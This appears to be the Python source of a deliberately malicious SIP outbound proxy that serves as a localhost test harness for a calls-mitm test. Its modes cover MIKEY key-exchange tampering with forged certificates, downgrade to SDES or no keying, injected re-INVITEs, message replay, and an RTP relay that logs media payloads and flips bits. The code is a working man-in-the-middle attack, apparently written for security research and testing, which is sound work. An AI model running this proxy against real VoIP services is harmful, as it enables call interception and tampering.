#!/usr/bin/env python3
"""A malicious SIP proxy for calls-mitm.sh: the caller's outbound proxy.

It terminates the caller's TLS with a certificate of the test CA (a
provider's proxy legitimately has one), relays every message to the real
proxy (Kamailio) over TLS and back, and on the way does what the current
mode (one word, read from --mode-file at every message) says:

  pass            relay unchanged (it still learns every message)
  offer-s1        paper scenario 1 on the INVITE's MIKEY offer: DH value and
                  certificate replaced (a self-signed certificate for the
                  caller's AOR, --forged-caller), signed with --attacker-key
  offer-s1-id     the same with the attacker's own identity (--own-key,
                  --own-cert, --own-id): certificate, ID and DH value replaced
  offer-s2        scenario 2: only the DH value replaced and signed again
  answer-s1       scenario 1 on the 200's R_MESSAGE (--forged-callee)
  answer-s2       scenario 2 on the 200's R_MESSAGE
  sdes            a=key-mgmt taken out of the offer, an SDES a=crypto put in
  strip           a=key-mgmt taken out of the offer
  redirect        the 200's m= port replaced by a UDP relay of the proxy,
                  which forwards to the callee's real port, flips a bit in
                  every 5th packet and writes every RTP payload it saw (hex)
                  to --relay-log
  reinvite-nokey  after the caller's ACK: a re-INVITE to the callee in the
                  dialog, its SDP without key-mgmt and the media pointed at
                  the relay
  reinvite-key    the same with another MIKEY offer (the attacker's key in
                  a certificate for the caller's AOR)
  replay-invite   (once) the first INVITE that was answered 200, sent again
  replay-options  (once) the first OPTIONS with a MIKEY offer, sent again
  replay-200      the 200 to an INVITE gets the SDP of the first 200 seen

Requests it makes itself carry its own Via on top; their responses are
logged ("response to injected ...") and not passed on. The log (--log) has
one line per event, read by the test.

  evil-proxy.py --port P --cert C --key K --ca CA --upstream HOST:PORT
                --mikey TOOL --mode-file F --log L --relay-log R
                --attacker-key K --forged-caller C --forged-callee C
                --own-key K --own-cert C --own-id URI --caller URI --callee URI
                --state-dir D
"""
import argparse
import base64
import os
import re
import select
import socket
import ssl
import subprocess
import sys
import threading
import time

LOG_LOCK = threading.Lock()
A = None


def log(line):
    with LOG_LOCK:
        with open(A.log, "a") as f:
            f.write("%.3f %s\n" % (time.time(), line))


# --- SIP text helpers -------------------------------------------------------

def frames(buf):
    """Complete messages (Content-Length framing) and the rest of buf.
    Bare CRLFs between messages (keep-alives) come out as their own
    frames."""
    out = []
    while True:
        n = 0
        while buf[n:n + 2] == b"\r\n":
            n += 2
        if n:
            out.append(buf[:n])
            buf = buf[n:]
        end = buf.find(b"\r\n\r\n")
        if end < 0:
            return out, buf
        m = re.search(rb"^(?:Content-Length|l)[ \t]*:[ \t]*(\d+)",
                      buf[:end], re.IGNORECASE | re.MULTILINE)
        total = end + 4 + (int(m.group(1)) if m else 0)
        if len(buf) < total:
            return out, buf
        out.append(buf[:total])
        buf = buf[total:]


class Msg:
    def __init__(self, raw):
        text = raw.decode("latin-1")
        head, _, self.body = text.partition("\r\n\r\n")
        lines = head.split("\r\n")
        self.start = lines[0]
        self.headers = []
        for ln in lines[1:]:
            if ln[:1] in (" ", "\t") and self.headers:
                n, v = self.headers[-1]
                self.headers[-1] = (n, v + " " + ln.strip())
            else:
                n, _, v = ln.partition(":")
                self.headers.append((n.strip(), v.strip()))

    def get(self, name, short=None):
        for n, v in self.headers:
            if n.lower() == name.lower() or (short and n.lower() == short):
                return v
        return ""

    def all(self, name):
        return [v for n, v in self.headers if n.lower() == name.lower()]

    @property
    def is_request(self):
        return not self.start.startswith("SIP/2.0")

    @property
    def method(self):
        if self.is_request:
            return self.start.split(" ", 1)[0]
        return self.get("CSeq").split()[-1] if self.get("CSeq") else ""

    @property
    def status(self):
        return 0 if self.is_request else int(self.start.split()[1])

    def callid(self):
        return self.get("Call-ID", "i")

    def has_totag(self):
        return "tag=" in self.get("To", "t")

    def encode(self):
        hs = [(n, v) for n, v in self.headers
              if n.lower() not in ("content-length", "l")]
        hs.append(("Content-Length", str(len(self.body.encode("latin-1")))))
        head = "\r\n".join([self.start] + ["%s: %s" % h for h in hs])
        return (head + "\r\n\r\n" + self.body).encode("latin-1")


def key_mgmt(body):
    m = re.search(r"^a=key-mgmt:mikey (\S+)\r?$", body, re.MULTILINE)
    return m.group(1) if m else None


def set_key_mgmt(body, new):
    return re.sub(r"^a=key-mgmt:mikey \S+\r?$", "a=key-mgmt:mikey " + new,
                  body, flags=re.MULTILINE)


def drop_key_mgmt(body):
    return re.sub(r"^a=key-mgmt:[^\r\n]*\r\n", "", body, flags=re.MULTILINE)


def media_port(body):
    m = re.search(r"^m=audio (\d+) ", body, re.MULTILINE)
    return int(m.group(1)) if m else 0


def set_media_port(body, port):
    return re.sub(r"^m=audio \d+ ", "m=audio %d " % port, body,
                  flags=re.MULTILINE)


def tamper(b64, *opts, key=None):
    r = subprocess.run([A.mikey, "tamper", "--key", key or A.attacker_key]
                       + list(opts), input=b64.encode(),
                       capture_output=True, timeout=20)
    if r.returncode != 0:
        log("tamper failed: %s" % r.stderr.decode().strip())
        return b64
    return r.stdout.decode().strip()


def attacker_offer():
    """A fresh I_MESSAGE signed by the attacker, claiming the caller."""
    st = os.path.join(A.state_dir, "evil-%d.state" % time.monotonic_ns())
    r = subprocess.run([A.mikey, "init", "--key", A.attacker_key, "--cert",
                        A.forged_caller, "--id", A.caller, "--peer",
                        A.callee, "--state", st], capture_output=True,
                       timeout=20)
    return r.stdout.decode().strip()


# --- state ------------------------------------------------------------------

class State:
    def __init__(self):
        self.lock = threading.Lock()
        self.dialogs = {}	# Call-ID -> {"invite": Msg, "ok": Msg}
        self.saved_invite = None	# raw bytes of the first answered INVITE
        self.saved_options = None	# raw bytes of the first MIKEY OPTIONS
        self.saved_ok_body = None	# SDP of the first 200 to an INVITE
        self.mode = "pass"
        self.done_once = set()
        self.relay = None	# (callee host, callee RTP port)
        self.pairs = []


ST = State()


def read_mode():
    try:
        with open(A.mode_file) as f:
            mode = f.read().strip() or "pass"
    except OSError:
        mode = "pass"
    if mode != ST.mode:
        log("mode %s" % mode)
        ST.mode = mode
    return mode


def rewrite_up(m, raw):
    """A message from the caller toward Kamailio: returns the bytes to
    relay (None: drop)."""
    mode = read_mode()
    if m.is_request and m.method == "OPTIONS" and key_mgmt(m.body) and \
            ST.saved_options is None:
        ST.saved_options = raw
    if m.is_request and m.method == "INVITE" and not m.has_totag():
        d = ST.dialogs.setdefault(m.callid(), {})
        d["invite"] = m
        km = key_mgmt(m.body)
        log("offer port %d call %s" % (media_port(m.body), m.callid()))
        if km and mode == "offer-s1":
            m.body = set_key_mgmt(m.body, tamper(km, "--cert",
                                                 A.forged_caller))
        elif km and mode == "offer-s1-id":
            m.body = set_key_mgmt(m.body, tamper(km, "--cert", A.own_cert,
                                                 "--id", A.own_id,
                                                 key=A.own_key))
        elif km and mode == "offer-s2":
            m.body = set_key_mgmt(m.body, tamper(km))
        elif mode in ("sdes", "strip"):
            m.body = drop_key_mgmt(m.body)
            if mode == "sdes":
                key = base64.b64encode(os.urandom(30)).decode()
                m.body = m.body.rstrip("\r\n") + \
                    "\r\na=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:%s\r\n" \
                    % key
        else:
            return raw
        log("rewrote INVITE (%s)" % mode)
        return m.encode()
    if m.is_request and m.method == "ACK" and \
            mode.startswith("reinvite-") and m.callid() in ST.dialogs and \
            (mode, m.callid()) not in ST.done_once:
        ST.done_once.add((mode, m.callid()))
        threading.Timer(0.5, inject_reinvite, (m.callid(), mode)).start()
    return raw


def rewrite_down(m, raw):
    """A message from Kamailio toward the caller."""
    mode = read_mode()
    if m.is_request or m.method != "INVITE" or m.status != 200:
        return raw
    d = ST.dialogs.setdefault(m.callid(), {})
    d["ok"] = m
    if ST.saved_ok_body is None and key_mgmt(m.body):
        ST.saved_ok_body = m.body
        ST.saved_invite = d["invite"].encode() if "invite" in d else None
    km = key_mgmt(m.body)
    if km and mode == "answer-s1":
        m.body = set_key_mgmt(m.body, tamper(km, "--cert", A.forged_callee))
    elif km and mode == "answer-s2":
        m.body = set_key_mgmt(m.body, tamper(km))
    elif mode == "redirect":
        ST.relay = ("127.0.0.1", media_port(m.body))
        m.body = set_media_port(m.body, A.relay_port)
    elif mode == "replay-200" and ST.saved_ok_body:
        m.body = ST.saved_ok_body
    else:
        return raw
    log("rewrote 200 (%s)" % mode)
    return m.encode()


# --- requests of our own ----------------------------------------------------

def our_via(pair):
    host, port = pair.up.getsockname()[:2]
    branch = "z9hG4bKevil" + os.urandom(6).hex()
    return "SIP/2.0/TLS %s:%d;branch=%s;rport" % (host, port, branch)


def inject_reinvite(callid, mode):
    d = ST.dialogs.get(callid, {})
    inv, ok = d.get("invite"), d.get("ok")
    pair = ST.pairs[-1] if ST.pairs else None
    if not inv or not ok or not pair:
        log("cannot inject: no dialog")
        return
    body = set_media_port(inv.body, A.relay_port)
    if mode == "reinvite-nokey":
        body = drop_key_mgmt(body)
    else:
        body = set_key_mgmt(body, attacker_offer())
    target = re.search(r"<([^>]+)>", ok.get("Contact", "m")).group(1)
    cseq = int(inv.get("CSeq").split()[0]) + 1
    hs = [("Via", our_via(pair))]
    for rr in reversed(ok.all("Record-Route")):
        for r in reversed([x.strip() for x in rr.split(",")]):
            hs.append(("Route", r))
    hs += [("Max-Forwards", "70"), ("From", inv.get("From", "f")),
           ("To", ok.get("To", "t")), ("Call-ID", callid),
           ("CSeq", "%d INVITE" % cseq), ("Contact", inv.get("Contact", "m")),
           ("Content-Type", "application/sdp")]
    m = Msg(b"X\r\n\r\n")
    m.start = "INVITE %s SIP/2.0" % target
    m.headers = hs
    m.body = body
    pair.send_up(m.encode())
    log("injected re-INVITE (%s) cseq %d" % (mode, cseq))


def replay(pair, raw, what):
    m = Msg(raw)
    m.headers.insert(0, ("Via", our_via(pair)))
    pair.send_up(m.encode())
    log("replayed %s" % what)


def answer_ours(pair, m):
    """A response to a request we made: log it, ACK a final INVITE
    response, pass nothing on."""
    warn = m.get("Warning")
    log("response to injected %s: %d %s" % (m.method, m.status, warn))
    if m.method == "INVITE" and m.status >= 300:
        ack = Msg(b"X\r\n\r\n")
        ack.start = "ACK %s SIP/2.0" % re.search(
            r"<?(sips?:[^>;]+)", m.get("To", "t")).group(1)
        ack.headers = [("Via", m.all("Via")[0]), ("Max-Forwards", "70"),
                       ("From", m.get("From", "f")), ("To", m.get("To", "t")),
                       ("Call-ID", m.callid()),
                       ("CSeq", m.get("CSeq").split()[0] + " ACK")]
        ack.body = ""
        pair.send_up(ack.encode())


# --- the relay of a connection pair -----------------------------------------

class Pair:
    def __init__(self, down, up):
        self.down, self.up = down, up
        self.outbox = []
        self.lock = threading.Lock()

    def send_up(self, data):
        with self.lock:
            self.outbox.append(data)

    def actions(self):
        mode = read_mode()
        if mode in ("replay-invite", "replay-options") and \
                mode not in ST.done_once:
            ST.done_once.add(mode)
            raw = ST.saved_invite if mode == "replay-invite" else \
                ST.saved_options
            if raw:
                replay(self, raw, mode[7:].upper())
            else:
                log("nothing to replay for %s" % mode)
        with self.lock:
            out, self.outbox = self.outbox, []
        for data in out:
            self.up.sendall(data)

    def handle(self, sock, data, buf):
        msgs, buf = frames(buf + data)
        for raw in msgs:
            if raw.strip() == b"":
                (self.up if sock is self.down else self.down).sendall(raw)
                continue
            m = Msg(raw)
            with ST.lock:
                if sock is self.up and not m.is_request and \
                        "branch=z9hG4bKevil" in (m.all("Via") or [""])[0]:
                    answer_ours(self, m)
                    continue
                out = rewrite_up(m, raw) if sock is self.down else \
                    rewrite_down(m, raw)
            if out is not None:
                (self.up if sock is self.down else self.down).sendall(out)
        return buf

    def run(self):
        bufs = {self.down: b"", self.up: b""}
        try:
            while True:
                self.actions()
                r, _, _ = select.select([self.down, self.up], [], [], 0.1)
                for s in r:
                    while True:
                        try:
                            data = s.recv(65536)
                        except ssl.SSLWantReadError:
                            break
                        if not data:
                            raise EOFError
                        bufs[s] = self.handle(s, data, bufs[s])
                        if not s.pending():
                            break
        except (EOFError, OSError) as e:
            log("connection closed (%s)" % type(e).__name__)
        finally:
            for s in (self.down, self.up):
                try:
                    s.close()
                except OSError:
                    pass
            if self in ST.pairs:
                ST.pairs.remove(self)


def media_relay(rtp, rtcp):
    """Forwards the caller's media from the relay to the callee's real
    ports; every 5th RTP packet gets its last byte flipped."""
    n = 0
    with open(A.relay_log, "a") as f:
        while True:
            r, _, _ = select.select([rtp, rtcp], [], [])
            for s in r:
                data, _ = s.recvfrom(65535)
                if not ST.relay or not ST.relay[1]:
                    continue
                host, port = ST.relay
                if s is rtp:
                    n += 1
                    f.write(data.hex() + "\n")
                    f.flush()
                    if n % 5 == 0:
                        data = data[:-1] + bytes([data[-1] ^ 1])
                    s.sendto(data, (host, port))
                else:
                    s.sendto(data, (host, port + 1))


def bind_pair():
    for _ in range(50):
        a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        a.bind(("127.0.0.1", 0))
        p = a.getsockname()[1]
        if p % 2 == 0 and p < 65535:
            b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                b.bind(("127.0.0.1", p + 1))
                return a, b
            except OSError:
                b.close()
        a.close()
    raise SystemExit("no relay port pair")


def main():
    global A
    ap = argparse.ArgumentParser()
    for o in ("cert", "key", "ca", "upstream", "mikey", "mode-file", "log",
              "relay-log", "attacker-key", "forged-caller", "forged-callee",
              "own-cert", "own-key", "own-id", "caller", "callee", "state-dir"):
        ap.add_argument("--" + o, required=True)
    ap.add_argument("--port", type=int, required=True)
    A = ap.parse_args()
    rtp, rtcp = bind_pair()
    A.relay_port = rtp.getsockname()[1]
    threading.Thread(target=media_relay, args=(rtp, rtcp),
                     daemon=True).start()
    sctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    sctx.load_cert_chain(A.cert, A.key)
    cctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    cctx.load_verify_locations(A.ca)
    uhost, uport = A.upstream.rsplit(":", 1)
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("127.0.0.1", A.port))
    ls.listen(8)
    log("listening on %d, relay port %d" % (A.port, A.relay_port))
    while True:
        c, _ = ls.accept()
        try:
            down = sctx.wrap_socket(c, server_side=True)
            up = cctx.wrap_socket(socket.create_connection(
                (uhost, int(uport)), timeout=10), server_hostname=uhost)
            up.settimeout(None)
        except (OSError, ssl.SSLError) as e:
            log("cannot set up a connection: %s" % e)
            c.close()
            continue
        p = Pair(down, up)
        ST.pairs.append(p)
        log("connection from the caller")
        threading.Thread(target=p.run, daemon=True).start()


if __name__ == "__main__":
    sys.exit(main())
